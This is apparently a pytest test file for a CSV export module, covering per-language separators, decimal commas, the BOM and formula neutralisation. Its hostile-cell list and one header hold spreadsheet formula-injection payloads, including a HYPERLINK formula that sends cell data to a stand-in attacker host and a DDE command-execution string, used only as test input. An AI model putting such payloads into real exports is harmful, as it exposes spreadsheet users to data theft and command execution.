"""The one CSV writer: separators by language and choice, decimal commas, BOM, formulas."""

from __future__ import annotations

import csv
import datetime as dt
import io
import zoneinfo
from decimal import Decimal

import pytest

from kartoteka.core.csv_export import (
    CsvExportForm,
    CsvFormat,
    Separator,
    cell_text,
    csv_bytes,
    csv_lines,
    default_separator,
)

HOSTILE = [
    '=HYPERLINK("http://zly.example/?d="&A1,"Faktura")',
    "+48 601 000 000",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]
WARSAW = zoneinfo.ZoneInfo("Europe/Warsaw")


@pytest.mark.parametrize(
    ("language", "expected"),
    [
        ("pl", Separator.SEMICOLON),
        ("cs", Separator.SEMICOLON),
        ("pl-PL", Separator.SEMICOLON),
        ("en", Separator.COMMA),
        ("", Separator.COMMA),
        (None, Separator.COMMA),
    ],
)
def test_the_default_separator_is_the_languages(language, expected) -> None:
    assert default_separator(language) == expected


@pytest.mark.parametrize(
    ("separator", "language", "expected"),
    [
        ("", "pl", CsvFormat(";", decimal_comma=True)),
        ("", "cs", CsvFormat(";", decimal_comma=True)),
        ("", "en", CsvFormat(",", decimal_comma=False)),
        ("comma", "pl", CsvFormat(",", decimal_comma=False)),
        ("tab", "pl", CsvFormat("\t", decimal_comma=True)),
        ("tab", "en", CsvFormat("\t", decimal_comma=False)),
        ("semicolon", "en", CsvFormat(";", decimal_comma=False)),
        ("pipe", "pl", CsvFormat(";", decimal_comma=True)),
    ],
)
def test_the_chosen_format(separator, language, expected) -> None:
    assert CsvFormat.chosen(separator, language=language) == expected


def test_a_semicolon_file_for_a_polish_user_reads_back_in_excels_dialect() -> None:
    # given
    header = ["Nazwa", "Kwota", "Termin", "Utworzono"]
    row = ["Łódź S.A.; oddział", Decimal("1234.50"), dt.date(2026, 3, 2), None]
    # when
    raw = csv_bytes(header, [row], CsvFormat.chosen("", language="pl"))
    # then
    assert raw.startswith(b"\xef\xbb\xbfNazwa;Kwota;Termin;Utworzono\r\n")
    table = list(csv.reader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";"))
    assert table == [header, ["Łódź S.A.; oddział", "1234,50", "2026-03-02", ""]]


def test_numbers_keep_a_decimal_point_in_a_comma_file() -> None:
    raw = csv_bytes(["a", "b"], [[Decimal("-3.25"), 2.5]], CsvFormat.chosen("", language="en"))
    assert raw.decode("utf-8-sig") == "a,b\r\n-3.25,2.5\r\n"


def test_a_tab_file_separates_by_tabs() -> None:
    raw = csv_bytes(["a", "b"], [["x y", 7]], CsvFormat.chosen("tab", language="cs"))
    assert raw.decode("utf-8-sig") == "a\tb\r\nx y\t7\r\n"


@pytest.mark.parametrize("separator", ["semicolon", "comma", "tab"])
def test_hostile_cells_are_never_formulas_in_any_format(separator) -> None:
    # when
    csv_format = CsvFormat.chosen(separator, language="pl")
    raw = csv_bytes(["=cmd|' /C calc'!A0", *HOSTILE[1:]], [HOSTILE], csv_format)
    # then
    table = list(csv.reader(io.StringIO(raw.decode("utf-8-sig")), delimiter=csv_format.delimiter))
    assert table[0][0] == "'=cmd|' /C calc'!A0"
    assert table[1] == ["'" + cell for cell in HOSTILE]
    assert all(cell.startswith("'") for row in table for cell in row)


def test_numbers_and_times_are_values_not_neutralised_text() -> None:
    pl = CsvFormat.chosen("", language="pl")
    assert cell_text(-5, pl) == "-5"
    assert cell_text(Decimal("-0.5"), pl) == "-0,5"
    assert cell_text(True, pl) == "1"
    moment = dt.datetime(2026, 7, 1, 10, 30, tzinfo=dt.UTC)
    assert cell_text(moment, pl, zone=WARSAW) == "2026-07-01 12:30"
    assert cell_text("-5", pl) == "'-5"


def test_lines_stream_lazily_with_the_bom_on_the_first_only() -> None:
    # given
    read: list[int] = []

    def rows():
        for n in range(3):
            read.append(n)
            yield [n]

    # when
    lines = csv_lines(["n"], rows(), CsvFormat())
    first = next(lines)
    # then
    assert (first, read) == ("\ufeffn\r\n", [])
    assert list(lines) == ["0\r\n", "1\r\n", "2\r\n"]


def test_the_export_form_defaults_to_the_languages_separator_and_survives_junk() -> None:
    assert CsvExportForm(language="pl")["separator"].initial == Separator.SEMICOLON
    assert CsvExportForm(language="en")["separator"].initial == Separator.COMMA
    assert CsvExportForm({}, language="cs").csv_format() == CsvFormat(";", True)
    junk = CsvExportForm({"separator": "\x00" * 5000}, language="cs")
    assert junk.csv_format() == CsvFormat(";", True)
    assert CsvExportForm({"separator": "comma"}, language="cs").csv_format() == CsvFormat(",")
